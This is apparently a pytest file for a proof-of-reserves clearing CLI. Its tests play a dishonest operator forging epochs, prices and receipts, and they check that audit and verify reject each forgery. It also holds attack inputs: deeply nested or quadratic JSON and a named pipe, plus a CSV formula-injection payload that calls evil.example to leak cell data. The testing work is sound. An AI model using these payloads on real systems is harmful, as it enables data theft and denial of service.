"""Trust hardening through the CLI, as a participant and an auditor use it: each test is named after the attack
it tries and shows the rejection (exit status 2 and the check's name), or the crash it used to cause (now one
line, exit status 1).

The deployment (tests/cli/conftest.py) is 8 traders over 3 epochs with options, portfolio margin and
oracle-sourced marks; forged epochs are proven into copies of it with the operator's own API, the way a
dishonest operator would."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from tests.cli.cli_helpers import zkclear
from zkclear.bundle.format import decode_public_bundle, encode_public_bundle, read_file
from zkclear.chains import ReserveEntry, attest_reserves, key_from_secret, load_key, load_reserves, write_key
from zkclear.crypto.field import scalar_to_bytes
from zkclear.operator import Deployment
from zkclear.verifier.public_inputs import PublicInputs
from zkclear.verifier.published import open_published


def _trader(deployment: Deployment, epoch: int = 3, skip: int = 0):
    traders = [a for a in deployment.accounts(epoch) if a.account_id.startswith("trader-") and any(a.witness.positions)]
    return traders[skip]


def _copy(proven, tmp_path: Path) -> Deployment:
    target = tmp_path / "copy"
    shutil.copytree(proven["dir"], target)
    return Deployment(target)


def _reserves(proven, epoch: int) -> tuple[ReserveEntry, ...]:
    return load_reserves(proven["dir"].parent / f"reserves-{epoch}.csv")


def _keys(proven) -> list:
    return [load_key(k) for k in sorted(proven["dir"].parent.glob("custodian-*.key"))]


def _prove_with(deployment: Deployment, proven, epoch: int, public, inputs: PublicInputs, previous=None) -> None:
    """Prove ``epoch`` with the given public data and inputs (what a dishonest operator controls) and publish;
    ``previous``: the chain link its header names (default: the deployment's previous epoch, genesis for 1)."""
    from zkclear.crypto.randomness import BlindingSource
    from zkclear.executor import SerialExecutor
    from zkclear.proofs.epoch_prover import prove_epoch
    from zkclear.verifier.published import CHUNK_SYSTEM

    book = deployment.reserve_book(_reserves(proven, epoch))
    artifacts = prove_epoch(
        deployment.accounts(epoch), public, book, epoch_id=epoch,
        previous=previous or deployment.previous_link(epoch), config=deployment.proving.tree,
        blindings=BlindingSource.deterministic(deployment._secret), chunk_system=CHUNK_SYSTEM,
        executor=SerialExecutor(), public_inputs_digest=inputs.digest())
    attestations: list = []
    for key in _keys(proven):
        attestations += attest_reserves(key, artifacts.bundle.attestation_context(), book.entries, attestations)
    artifacts.bundle = artifacts.bundle.with_attestations(tuple(attestations))
    deployment.publish(epoch, artifacts, public, inputs)


@pytest.fixture(scope="module")
def forged_derived_mark(proven, tmp_path_factory) -> Deployment:
    """A copy of the deployment whose epoch 3 is proven with the honest risk data but published with public inputs
    whose first derived mark is one tick off (what the audit and a participant's verify must both refuse)."""
    deployment = _copy(proven, tmp_path_factory.mktemp("forged-derived-mark"))
    inputs = deployment.public_inputs(3)
    document = json.loads(inputs.to_bytes())
    document["derived"]["marks"][0][1] += 1
    _prove_with(deployment, proven, 3, deployment.public_data(3, inputs), PublicInputs(document))
    return deployment


@pytest.fixture(scope="module")
def disclosed(proven, tmp_path_factory):
    """A copy of the deployment with ``disclose_total = true``, epoch 3 proven again: (deployment, files,
    artifacts). The operator secret is the copy's, so the hidden total and its blinding are the original's too."""
    deployment = _copy(proven, tmp_path_factory.mktemp("disclosed"))
    toml = deployment.root / "proving.toml"
    toml.write_text(toml.read_text().replace("disclose_total = false", "disclose_total = true"))
    deployment = Deployment(deployment.root)
    files, artifacts = deployment.prove(3, _reserves(proven, 3), reserve_keys=_keys(proven))
    return deployment, files, artifacts


def _example(expect: int, script: str, *args: object) -> str:
    """Run ``examples/SCRIPT ARGS`` as a user does (a subprocess); its stdout, the exit status checked."""
    result = subprocess.run([sys.executable, str(Path(__file__).resolve().parents[2] / "examples" / script),
                             *map(str, args)], capture_output=True, text=True, check=False, timeout=600)
    assert result.returncode == expect, result.stdout + result.stderr
    return result.stdout


def _json_failure(out: str) -> dict:
    result = json.loads(out)
    assert result["ok"] is False
    return result


# -- a receipt is bound to its owner ---------------------------------------------------------------------


def test_another_accounts_receipt_is_rejected_by_name(proven, capsys):
    deployment = proven["deployment"]
    mine, theirs = _trader(deployment, skip=0), _trader(deployment, skip=1)
    receipt = deployment.receipt_path(3, theirs.account_id)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", receipt, "--account", mine.account_id, "--json",
                  expect=2, capsys=capsys)
    failure = _json_failure(out)
    assert failure["reason"] == "receipt-owner"
    assert theirs.account_id in failure["detail"] and mine.account_id in failure["detail"]


def test_verify_requires_the_participants_own_account_id(proven, capsys):
    deployment = proven["deployment"]
    receipt = deployment.receipt_path(3, _trader(deployment).account_id)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", receipt, expect=1, capsys=capsys)
    assert "--account" in out and out.count("\n") == 1


def test_the_participant_file_pins_the_account_key(proven, tmp_path, capsys):
    deployment = proven["deployment"]
    account = _trader(deployment)
    participant = deployment.participant_path(account.account_id)
    assert f'account = "{account.account_id}"' in participant.read_text()
    receipt = deployment.receipt_path(3, account.account_id)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", receipt, "--participant", participant,
                  capsys=capsys)
    assert f"OK: account {account.account_id}" in out
    wrong = tmp_path / "me.toml"
    wrong.write_text(f'account = "{account.account_id}"\naccount_key = "{"ab" * 32}"\n')
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", receipt, "--participant", wrong, expect=2,
                  capsys=capsys)
    assert "[account-key-mismatch]" in out


def test_history_over_three_epochs_chains_and_exports_csv(proven, tmp_path, capsys):
    deployment = proven["deployment"]
    account = next(a for a in deployment.accounts(1) if a.account_id.startswith("trader-"))
    dirs = [deployment.epoch_dir(n) for n in (1, 2, 3)]
    args = ["verify", *dirs]
    for n in (1, 2, 3):
        args += ["--receipt", deployment.receipt_path(n, account.account_id)]
    csv_path = tmp_path / "history.csv"
    out = zkclear(*args, "--account", account.account_id, "--history", "--history-csv", csv_path, capsys=capsys)
    assert "the 3 epochs chain" in out and "history:" in out
    rows = csv_path.read_text().splitlines()
    assert rows[0].startswith("epoch,header_hash,margin_mode,cash") and len(rows) == 4
    assert [row.split(",")[0] for row in rows[1:]] == ["1", "2", "3"]
    # epochs given out of their chain: 1 and 3 alone are checked individually; 2 listed twice is refused
    args = ["verify", dirs[1], dirs[1], "--receipt", deployment.receipt_path(2, account.account_id),
            "--receipt", deployment.receipt_path(2, account.account_id), "--account", account.account_id]
    assert "[history-duplicate]" in zkclear(*args, expect=2, capsys=capsys)


# -- split view: the posted header -------------------------------------------------------------------------


def test_a_header_other_than_the_posted_one_is_rejected(proven, capsys):
    deployment = proven["deployment"]
    account = _trader(deployment)
    posted = decode_public_bundle(read_file(deployment.bundle_path(3))).epoch_hash().hex()
    other = decode_public_bundle(read_file(deployment.bundle_path(2))).epoch_hash().hex()
    receipt = deployment.receipt_path(3, account.account_id)
    base = ["verify", deployment.epoch_dir(3), "--receipt", receipt, "--account", account.account_id]
    assert "OK: account" in zkclear(*base, "--expect-header", posted, capsys=capsys)
    out = zkclear(*base, "--expect-header", other, expect=2, capsys=capsys)
    assert "[header-mismatch]" in out and other in out and posted in out
    out = zkclear("audit", deployment.epoch_dir(3), "--expect-header", other, expect=2, capsys=capsys)
    assert "[header-mismatch]" in out
    assert posted in zkclear("show", deployment.epoch_dir(3), capsys=capsys)


# -- public inputs: recomputed, compared with the auditor's own prices ------------------------------------


def test_risk_data_forged_against_the_published_inputs_is_rejected(proven, tmp_path, capsys):
    """The operator proves epoch 3 with a lower margin line for the first instrument than its inputs give."""
    deployment = _copy(proven, tmp_path)
    inputs = deployment.public_inputs(3)
    honest = deployment.public_data(3, inputs)
    first = honest.instruments[0]
    lowered = tuple(replace(line, long_per_lot=line.long_per_lot // 2, short_per_lot=line.short_per_lot // 2)
                    for line in first.margin_lines)
    forged = replace(honest, instruments=(replace(first, margin_lines=lowered), *honest.instruments[1:]))
    _prove_with(deployment, proven, 3, forged, inputs)
    out = zkclear("audit", deployment.epoch_dir(3), "--json", expect=2, capsys=capsys)
    failure = _json_failure(out)
    assert failure["reason"] == "public-data-recomputed" and "risk data" in failure["detail"]


def test_an_epoch_1_that_names_a_previous_epoch_is_refused_by_audit_and_verify(proven, tmp_path, capsys):
    """A history cut from a longer one: epoch 1 proven and attested honestly, but its header names another
    chain's epoch instead of the genesis values. Nothing before it is given, so only the genesis rule can catch it."""
    deployment = _copy(proven, tmp_path)
    inputs = deployment.public_inputs(1)
    other = open_published(deployment.epoch_dir(2)).bundle.chain_link()  # a real epoch of some chain
    _prove_with(deployment, proven, 1, deployment.public_data(1, inputs), inputs, previous=replace(other, epoch_id=0))
    assert open_published(deployment.epoch_dir(1)).bundle.header.previous_epoch_hash == other.epoch_hash
    failure = _json_failure(zkclear("audit", deployment.epoch_dir(1), "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "epoch-chain-broken" and "epoch 1" in failure["detail"]
    account = _trader(deployment, 1)
    out = zkclear("verify", deployment.epoch_dir(1), "--receipt", deployment.receipt_path(1, account.account_id),
                  "--account", account.account_id, expect=2, capsys=capsys)
    assert "epoch-chain-broken" in out


def test_derived_marks_that_the_inputs_do_not_give_are_rejected(forged_derived_mark, capsys):
    deployment = forged_derived_mark
    failure = _json_failure(zkclear("audit", deployment.epoch_dir(3), "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "public-inputs-mismatch" and "derived.marks[0][1]" in failure["detail"]


def test_marks_forged_consistently_are_caught_by_the_auditors_own_prices(proven, tmp_path, capsys):
    """The operator feeds the proofs oracle quotes 10 % below the market (consistently: the recomputation
    passes); the auditor's own prices expose it."""
    deployment = _copy(proven, tmp_path)
    honest_inputs = deployment.public_inputs(3)
    document = json.loads(honest_inputs.to_bytes())
    document["inputs"]["oracle_quotes"] = [[i, s, p * 9 // 10, t] for i, s, p, t in document["inputs"]["oracle_quotes"]]
    from zkclear.proofs.recompute import recompute

    document["derived"] = recompute(PublicInputs(document)).derived
    forged = PublicInputs(document)
    _prove_with(deployment, proven, 3, recompute(forged).public_data, forged)
    out = zkclear("audit", deployment.epoch_dir(3), capsys=capsys)
    assert "epoch 3: OK" in out  # consistent with its own inputs: only outside prices can tell
    true_marks = honest_inputs.marks()
    marks = tmp_path / "my-prices.csv"
    marks.write_text("instrument,price\n" + "".join(f"{i},{p}\n" for i, p in true_marks.items()))
    failure = _json_failure(zkclear("audit", deployment.epoch_dir(3), "--marks", marks, "--tolerance-bps", 50,
                                    "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "marks-beyond-tolerance"
    assert "BTC-PERP" in failure["detail"] or "ETH-PERP" in failure["detail"]


def test_marks_within_tolerance_pass_and_bad_marks_files_are_input_errors(proven, tmp_path, capsys):
    deployment = proven["deployment"]
    published_marks = json.loads(zkclear("show", deployment.epoch_dir(3), "--json", capsys=capsys))["marks"]
    marks = tmp_path / "prices.csv"
    marks.write_text("\ufeffinstrument,price\n" + "".join(f"{i},{p + p // 400}\n"
                                                          for i, p in published_marks.items()) + "\n\n")
    out = zkclear("audit", deployment.epoch_dir(3), "--marks", marks, "--tolerance-bps", 50, capsys=capsys)
    assert f"{len(published_marks)} marks within 50 bps" in out
    marks.write_text("instrument,price\nBTC-PERP,６００００\n")
    out = zkclear("audit", deployment.epoch_dir(3), "--marks", marks, expect=1, capsys=capsys)
    assert "prices.csv:2:" in out and "field 'price'" in out


# -- the matched book --------------------------------------------------------------------------------------


def test_a_stripped_or_forged_matched_book_is_rejected(proven, tmp_path, capsys):
    deployment = proven["deployment"]
    target = tmp_path / "epoch"
    shutil.copytree(deployment.epoch_dir(3), target)
    path = target / "epoch-3.bundle"
    bundle = decode_public_bundle(path.read_bytes())
    betas = list(bundle.matched_book)
    betas[-1] = (betas[-1] + 1) % (1 << 250)
    path.write_bytes(encode_public_bundle(replace(bundle, matched_book=tuple(betas))))
    account = _trader(deployment)
    out = zkclear("verify", target, "--receipt", deployment.receipt_path(3, account.account_id), "--account",
                  account.account_id, expect=2, capsys=capsys)
    assert "[matched-book]" in out and "do not sum to zero" in out
    path.write_bytes(encode_public_bundle(replace(bundle, matched_book=())))
    out = zkclear("audit", target, expect=1, capsys=capsys)
    assert "matched_book" in out and out.count("\n") == 1


# -- privacy: what is published ------------------------------------------------------------------------------


def _needles(total: int, blinding: int) -> list[bytes]:
    return [total.to_bytes(8, "big"), scalar_to_bytes(blinding), str(total).encode(), f"{total:x}".encode()]


def test_no_published_file_reveals_the_total_and_private_files_stay_private(proven, disclosed):
    deployment = proven["deployment"]

    for epoch in (1, 2, 3):
        folder = deployment.epoch_dir(epoch)
        names = sorted(p.name for p in folder.rglob("*"))
        assert names == [f"epoch-{epoch}.{s}" for s in ("audit", "bundle", "inputs.json", "public.json")]
        with deployment.ledger() as ledger:
            total = int(ledger.state(epoch).cash.sum())  # no premium-style option value: a lower bound check
        blobs = b"".join(p.read_bytes() for p in folder.iterdir())
        assert str(total).encode() not in blobs and total.to_bytes(8, "big") not in blobs
        assert not (deployment.private_dir(epoch) / f"epoch-{epoch}.total").exists()  # disclose_total is off
    copy, files, artifacts = disclosed  # the same secret: the same hidden total and blinding as epoch 3's here
    ((total, blinding),) = artifacts.total_opening
    published = [*deployment.epoch_dir(3).iterdir(), *files.publish.directory.iterdir()]  # off, and on
    assert files.publish.directory == copy.epoch_dir(3) and len(published) == 8
    assert open_published(copy.epoch_dir(3)).bundle.root == open_published(deployment.epoch_dir(3)).bundle.root
    for path in published:
        data = path.read_bytes()
        for needle in _needles(total, blinding):
            assert needle not in data, (path.name, needle)


def test_the_total_goes_only_to_the_auditor_file_when_asked_and_audit_prints_the_ratio(disclosed, capsys):
    deployment, files, artifacts = disclosed
    assert files.total == deployment.private_dir(3) / "epoch-3.total"
    assert files.total.parent != files.publish.directory
    total = artifacts.total_opening[0][0]
    out = zkclear("audit", deployment.epoch_dir(3), "--total", files.total, capsys=capsys)
    assert f"USDC liabilities {total}" in out and "reserve ratio" in out
    out = zkclear("audit", deployment.epoch_dir(2), "--total", files.total, expect=1, capsys=capsys)
    assert "--total" in out
    assert "verified" not in out and out.count("\n") == 1  # refused before any epoch is reported OK


def test_receipt_file_names_are_keyed_and_unlinkable_across_epochs(proven):
    import hashlib

    deployment = proven["deployment"]
    account = _trader(deployment)
    names = [deployment.receipt_path(n, account.account_id).name for n in (1, 2, 3)]
    assert len(set(names)) == 3
    unkeyed = hashlib.sha256(b"zkclear/receipt-file/v1" + account.account_id.encode()).hexdigest()[:32]
    assert all(unkeyed not in name for name in names)
    assert all(account.account_id not in name for name in names)


# -- crashes of the first wave: each is now one line and exit status 1 (or 2 for a failed check) -------------


def test_crowd_audit_with_a_negative_count_is_a_usage_error(proven, capsys):
    deployment = proven["deployment"]
    account = _trader(deployment)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
                  "--account", account.account_id, "--crowd-audit", -1, expect=1, capsys=capsys)
    assert "--crowd-audit" in out and "Traceback" not in out


def test_crowd_audit_without_the_audit_file_names_the_file(proven, tmp_path, capsys):
    deployment = proven["deployment"]
    target = tmp_path / "no-audit"
    shutil.copytree(deployment.epoch_dir(3), target)
    (target / "epoch-3.audit").unlink()
    account = _trader(deployment)
    out = zkclear("verify", target, "--receipt", deployment.receipt_path(3, account.account_id), "--account",
                  account.account_id, "--crowd-audit", 1, expect=1, capsys=capsys)
    assert "epoch-3.audit" in out and "file not found" in out and out.count("\n") == 1
    out = zkclear("audit", target, expect=1, capsys=capsys)
    assert "epoch-3.audit" in out and out.count("\n") == 1


def test_crowd_audit_of_an_audit_file_that_is_a_pipe_is_refused_not_waited_on(proven, tmp_path):
    """The crowd audit reads the audit file in bounded pieces, only what it samples; a named pipe in its place is
    refused before a byte is read (in a real process: a wait would show as the timeout)."""
    import os

    deployment = proven["deployment"]
    target = tmp_path / "piped-audit"
    shutil.copytree(deployment.epoch_dir(3), target)
    (target / "epoch-3.audit").unlink()
    os.mkfifo(target / "epoch-3.audit")
    account = _trader(deployment)
    result = subprocess.run([sys.executable, "-m", "zkclear.cli", "verify", str(target), "--receipt",
                             str(deployment.receipt_path(3, account.account_id)), "--account", account.account_id,
                             "--crowd-audit", "1"], capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 1, result.stderr
    assert result.stderr == f"error: {target / 'epoch-3.audit'}: not a regular file\n", result.stderr


def test_attesting_an_epoch_not_yet_proven_says_so(proven, capsys):
    out = zkclear("epoch", "attest", "-d", proven["dir"], "--epoch", 9, "--key", proven["dir"].parent /
                  "custodian-0.key", expect=1, capsys=capsys)
    assert "epoch 9 has not been proven" in out and out.count("\n") == 1


def test_attesting_with_a_key_that_controls_no_reserve_address_is_refused_by_address(proven, tmp_path, capsys):
    deployment = _copy(proven, tmp_path)
    path = tmp_path / "stranger.key"
    stranger = key_from_secret("ethereum", bytes([0x77]) * 32)
    write_key(path, stranger)
    before = (deployment.epoch_dir(3) / "epoch-3.bundle").read_bytes()
    out = zkclear("epoch", "attest", "-d", deployment.root, "--epoch", 3, "--key", path, expect=1, capsys=capsys)
    assert "controls no listed reserve address" in out and stranger.address.text in out and out.count("\n") == 1
    assert (deployment.epoch_dir(3) / "epoch-3.bundle").read_bytes() == before


def test_a_deleted_operator_secret_is_a_clear_error(proven, tmp_path, capsys):
    deployment = _copy(proven, tmp_path)
    (deployment.root / "operator.secret").unlink()
    out = zkclear("epoch", "prove", "-d", deployment.root, "--reserves", proven["dir"].parent / "reserves-3.csv",
                  expect=1, capsys=capsys)
    assert "operator.secret is missing" in out and out.count("\n") == 1


def test_init_under_a_file_is_a_clear_error(tmp_path, capsys):
    blocker = tmp_path / "hostname"
    blocker.write_text("not a directory")
    out = zkclear("init", blocker / "venue", expect=1, capsys=capsys)
    assert "cannot create the deployment directory" in out and out.count("\n") == 1


def test_a_bundle_not_named_by_its_epoch_number_is_a_clear_error(proven, tmp_path, capsys):
    target = tmp_path / "renamed"
    shutil.copytree(proven["deployment"].epoch_dir(3), target)
    (target / "epoch-3.bundle").rename(target / "epoch-one.bundle")
    out = zkclear("show", target, expect=1, capsys=capsys)
    assert "epoch-one.bundle" in out and out.count("\n") == 1
    (target / "epoch-one.bundle").rename(target / "epoch-2.bundle")
    out = zkclear("show", target, expect=1, capsys=capsys)
    assert "named for epoch 2 but holds epoch 3" in out


def test_reserves_with_non_ascii_digits_are_refused(proven, tmp_path, capsys):
    deployment = _copy(proven, tmp_path)
    entry = _reserves(proven, 3)[0]
    for balance in ("1²", "１２３"):
        reserves = tmp_path / "reserves.csv"
        reserves.write_text("chain,asset,address,balance,block_height,block_hash\n"
                            f"{entry.chain},{entry.asset},{entry.address},{balance},{entry.block_height},"
                            f"{entry.block_hash}\n", encoding="utf-8")
        out = zkclear("epoch", "prove", "-d", deployment.root, "--reserves", reserves, expect=1, capsys=capsys)
        assert "reserves.csv:2:" in out and "field 'balance'" in out


def test_a_deeply_nested_public_file_is_refused_without_a_signal(proven, tmp_path):
    """The first wave's verifier died with SIGSEGV: py_ecc raises the recursion limit, json recursed in C."""
    target = tmp_path / "nested"
    shutil.copytree(proven["deployment"].epoch_dir(3), target)
    (target / "epoch-3.public.json").write_bytes(b"[" * 200_000 + b"]" * 200_000)
    for command in (["show", str(target)], ["audit", str(target)]):
        result = subprocess.run([sys.executable, "-m", "zkclear.cli", *command], capture_output=True, text=True,
                                timeout=300)
        assert result.returncode == 1, result.stderr
        assert "nested" in result.stderr and "Traceback" not in result.stderr
        assert result.stderr.count("\n") == 1


@pytest.mark.parametrize("args", [
    ["verify", "."],
    ["verify", "/nonexistent/epoch", "--receipt", "/nonexistent/r.rcpt", "--account", "a"],
    ["audit", "/nonexistent/epoch"],
    ["show", "/nonexistent/epoch"],
    ["epoch", "prove", "-d", "/nonexistent", "--reserves", "/nonexistent.csv"],
    ["verify", ".", "--receipt", "x", "--account", "a", "--expect-header", "zz"],
    ["bench", "nothing"],
    ["serve", ".", "--port", "99999999999"],
])
def test_odd_arguments_end_in_one_line_and_exit_status_1(args, capsys):
    out = zkclear(*args, expect=1, capsys=capsys)
    assert "Traceback" not in out and out.strip().count("\n") == 0 and out.startswith("error: ")


def test_a_marks_file_with_an_oversized_field_is_an_input_error_naming_the_line(tmp_path, capsys):
    """csv refuses a field above 128 KiB with its own csv.Error, which used to end in an internal error (exit 3)."""
    marks = tmp_path / "prices.csv"
    marks.write_text("instrument,price\nBTC-PERP,60000\n\"" + "A" * 200_000 + "\",1\n")
    out = zkclear("audit", tmp_path, "--marks", marks, expect=1, capsys=capsys)
    assert "prices.csv:3:" in out and "Traceback" not in out and out.strip().count("\n") == 0


def test_an_expected_position_with_a_doubled_sign_is_one_input_error(proven, capsys):
    """'--position BTC-PERP=--5' passed the digit check after stripping every '-', then int() raised: exit 3."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    instrument = open_published(deployment.epoch_dir(3)).public.instrument_ids[0]
    for lots in ("--5", "-", "5-"):
        out = zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
                      "--account", account.account_id, "--position", f"{instrument}={lots}", expect=1, capsys=capsys)
        assert "--position" in out and "Traceback" not in out and out.strip().count("\n") == 0


def _padded(value: int) -> str:
    return f"-0{-value}" if value < 0 else f"0{value}"


def _position_options(items) -> list[str]:
    return [part for item in items for part in ("--position", item)]


def test_expected_values_in_a_second_spelling_are_refused_naming_the_option(proven, tmp_path, capsys):
    """`--position X=-0`, `--position X=007` and `--cash 007` were read as 0 and 7 (and checked equal), where the
    operator's files take one spelling per integer: each is now one line naming the option, exit 1; so is a
    second spelling of any integer option (`--crowd-audit 01`, `audit --tolerance-bps +5`) and of the auditor's
    marks file."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    instruments = deployment.config.instrument_ids
    positions = dict(zip(instruments, account.witness.positions, strict=True))
    held = next(i for i, q in positions.items() if q)
    flat = next(i for i, q in positions.items() if not q)
    base = ["verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
            "--account", account.account_id]
    zkclear(*base, "--cash", account.witness.cash, *_position_options(f"{i}={q}" for i, q in positions.items()),
            capsys=capsys)
    for name, lots in ((flat, "-0"), (flat, "00"), (held, _padded(positions[held]))):
        items = [f"{i}={lots if i == name else q}" for i, q in positions.items()]  # else exact: it passed
        out = zkclear(*base, *_position_options(items), expect=1, capsys=capsys)
        assert out.startswith(f"error: field '--position': the lots of {name} must be a plain decimal integer (")
        assert out.count("\n") == 1
    for cash in (_padded(account.witness.cash), f"+{account.witness.cash}", f" {account.witness.cash}", "-0"):
        out = zkclear(*base, "--cash", cash, expect=1, capsys=capsys)
        assert out.startswith("error: Invalid value for '--cash': must be a plain decimal integer (")
        assert out.count("\n") == 1
    out = zkclear(*base, "--crowd-audit", "01", expect=1, capsys=capsys)
    assert "Invalid value for '--crowd-audit'" in out and out.count("\n") == 1
    out = zkclear("audit", deployment.epoch_dir(3), "--tolerance-bps", "+5", expect=1, capsys=capsys)
    assert "Invalid value for '--tolerance-bps'" in out and out.count("\n") == 1
    marks = tmp_path / "prices.csv"
    for row, field in ((f"{held},060000", "price"), (f"-0,{held},60000", "epoch")):
        marks.write_text(("epoch,instrument,price\n" if field == "epoch" else "instrument,price\n") + row + "\n")
        out = zkclear("audit", deployment.epoch_dir(3), "--marks", marks, expect=1, capsys=capsys)
        assert out.startswith(f"error: {marks}:2: field '{field}': must be ") and out.count("\n") == 1


def test_receipts_of_epochs_with_a_gap_are_not_said_to_chain(proven, capsys):
    """Epochs 1 and 3 alone: the link through epoch 2 cannot be checked, so the output must not claim a chain (a
    forked epoch 3 descending from another epoch 2 would pass as well)."""
    deployment = proven["deployment"]
    account = next(a for a in deployment.accounts(1) if a.account_id.startswith("trader-"))
    out = zkclear("verify", deployment.epoch_dir(1), deployment.epoch_dir(3),
                  "--receipt", deployment.receipt_path(1, account.account_id),
                  "--receipt", deployment.receipt_path(3, account.account_id), "--account", account.account_id,
                  capsys=capsys)
    assert "epochs chain" not in out and "epochs 1 and 3 are not consecutive" in out


def test_two_total_files_for_one_epoch_are_an_input_error(proven, tmp_path, capsys):
    """The second file silently replaced the first: the auditor would never know which one was checked."""
    from zkclear.bundle.format import encode_total_opening, write_file

    digest = open_published(proven["deployment"].epoch_dir(3)).bundle.header.digest()
    paths = [tmp_path / "a.total", tmp_path / "b.total"]
    for k, path in enumerate(paths):
        write_file(path, encode_total_opening(digest, ((k + 1, k + 1),)))
    out = zkclear("audit", proven["deployment"].epoch_dir(3), "--total", paths[0], "--total", paths[1], expect=1,
                  capsys=capsys)
    assert "b.total" in out and "--total" in out and out.strip().count("\n") == 0


def test_a_marks_file_that_prices_nothing_of_an_audited_epoch_is_an_input_error(proven, tmp_path, capsys):
    """Prices for epoch 2 only, epoch 3 audited: no mark was compared, yet the audit passed without a word."""
    marks = tmp_path / "prices.csv"
    for text in ("epoch,instrument,price\n2,BTC-PERP,60000\n", "instrument,price\n"):
        marks.write_text(text)
        out = zkclear("audit", proven["deployment"].epoch_dir(3), "--marks", marks, expect=1, capsys=capsys)
        assert "prices.csv" in out and "epoch 3" in out and out.strip().count("\n") == 0


def test_a_published_configuration_nested_too_deeply_is_a_named_failure(proven, tmp_path, capsys):
    """tomllib recurses once per nested array: the published configuration text (bound by the header, so the
    operator's to choose) ended the audit in a bare 'input too large' line naming no file."""
    target = tmp_path / "nested-config"
    shutil.copytree(proven["deployment"].epoch_dir(3), target)
    path = target / "epoch-3.inputs.json"
    document = json.loads(path.read_text())
    document["config"] = "a = " + "[" * 200_000 + "]" * 200_000 + "\n" + document["config"]
    path.write_bytes(PublicInputs(document).to_bytes())
    # the file is not the one the header binds: the audit says so before parsing it (since session 11)
    failure = _json_failure(zkclear("audit", target, "--json", expect=2, capsys=capsys))
    assert failure["reason"] == "public-data-mismatch"
    # an operator could bind such a text: the recomputation itself names it (no RecursionError, no bare line)
    assert _recompute_failure(target, document) == "public-inputs-invalid"


def test_a_public_file_of_escaped_quotes_is_refused_without_hanging(proven, tmp_path):
    """The nesting pre-scan removed strings with a regex that rescanned to the end from every escaped quote of an
    unterminated string: 600 kB of \\" took hours (quadratic) before any check, in verify, audit and show."""
    target = tmp_path / "quotes"
    shutil.copytree(proven["deployment"].epoch_dir(3), target)
    for name in ("public.json", "inputs.json"):
        (target / f"epoch-3.{name}").write_bytes(b'"' + b'\\"' * 300_000)
        result = subprocess.run([sys.executable, "-m", "zkclear.cli", "show", str(target)], capture_output=True,
                                text=True, timeout=60)
        assert result.returncode == 1 and f"epoch-3.{name}" in result.stderr, result.stderr
        assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1
        shutil.copy(proven["deployment"].epoch_dir(3) / f"epoch-3.{name}", target / f"epoch-3.{name}")


def test_a_receipt_opening_split_differently_from_its_leaf_is_an_opening_mismatch(proven, tmp_path, capsys):
    """The opening lists one balance as a position: every value still opens the leaf's commitment at the same
    place, so the opening 'matched', and verify --position then ended in an internal error (exit 3)."""
    from zkclear.bundle.format import encode_receipt, write_file
    from zkclear.verifier.published import CHUNK_SYSTEM

    deployment = proven["deployment"]
    account = _trader(deployment)
    published = open_published(deployment.epoch_dir(3))
    receipt = published.receipt(deployment.receipt_path(3, account.account_id))
    opening = receipt.opening
    shifted = replace(opening, positions=(*opening.positions, opening.witnesses[0]),
                      position_blindings=(*opening.position_blindings, opening.witness_blindings[0]),
                      witnesses=opening.witnesses[1:], witness_blindings=opening.witness_blindings[1:])
    path = tmp_path / "shifted.rcpt"
    write_file(path, encode_receipt(replace(receipt, opening=shifted), CHUNK_SYSTEM))
    instrument = published.public.instrument_ids[0]
    for extra in ([], ["--position", f"{instrument}={account.witness.positions[0]}"]):
        failure = _json_failure(zkclear("verify", deployment.epoch_dir(3), "--receipt", path, "--account",
                                        account.account_id, "--json", *extra, expect=2, capsys=capsys))
        assert failure["reason"] == "opening-mismatch"


def test_an_absurd_worker_count_is_a_usage_error(proven, capsys):
    """--workers 10^20 reached the process pool and ended in an internal error (OverflowError, exit 3); a few
    thousand would fork that many processes at once."""
    for command in (["audit", proven["deployment"].epoch_dir(3)],
                    ["epoch", "prove", "-d", proven["dir"], "--reserves", proven["dir"].parent / "reserves-3.csv"]):
        out = zkclear(*command, "--workers", "99999999999999999999", expect=1, capsys=capsys)
        assert "--workers" in out and out.strip().count("\n") == 0


def test_an_account_key_other_than_the_participant_files_is_refused(proven, capsys):
    """--account-key silently replaced the key the participant file pins (an --account other than the file's is
    refused); told to pass another key, the participant would have pinned the operator's choice."""
    deployment = proven["deployment"]
    account = _trader(deployment)
    out = zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
                  "--participant", deployment.participant_path(account.account_id), "--account-key", "ab" * 32,
                  expect=1, capsys=capsys)
    assert "--account-key" in out and out.strip().count("\n") == 0


# -- names the operator chooses, printed to the participant ------------------------------------------------


def _verify_epoch_3(deployment, tmp_path, *extra, expect):
    account = _trader(deployment)
    return zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
                   "--account", account.account_id, *extra, expect=expect)


def test_an_instrument_named_as_a_spreadsheet_formula_never_reaches_the_history_csv(proven, tmp_path):
    """The operator proves epoch 3 with its first instrument renamed to a formula in the risk data: the participant's
    history CSV, opened in a spreadsheet, would run it. The risk data's names must be the configuration's ids."""
    deployment = _copy(proven, tmp_path)
    inputs = deployment.public_inputs(3)
    honest = deployment.public_data(3, inputs)
    formula = '=HYPERLINK("https://evil.example/?"&D2,"BTC-PERP")'
    forged = replace(honest, instruments=(replace(honest.instruments[0], instrument_id=formula),
                                          *honest.instruments[1:]))
    _prove_with(deployment, proven, 3, forged, inputs)
    csv_path = tmp_path / "history.csv"
    out = _verify_epoch_3(deployment, tmp_path, "--history-csv", csv_path, expect=1)
    assert "epoch-3.public.json" in out and "instrument id" in out and len(out.strip().splitlines()) == 1
    assert not csv_path.exists()


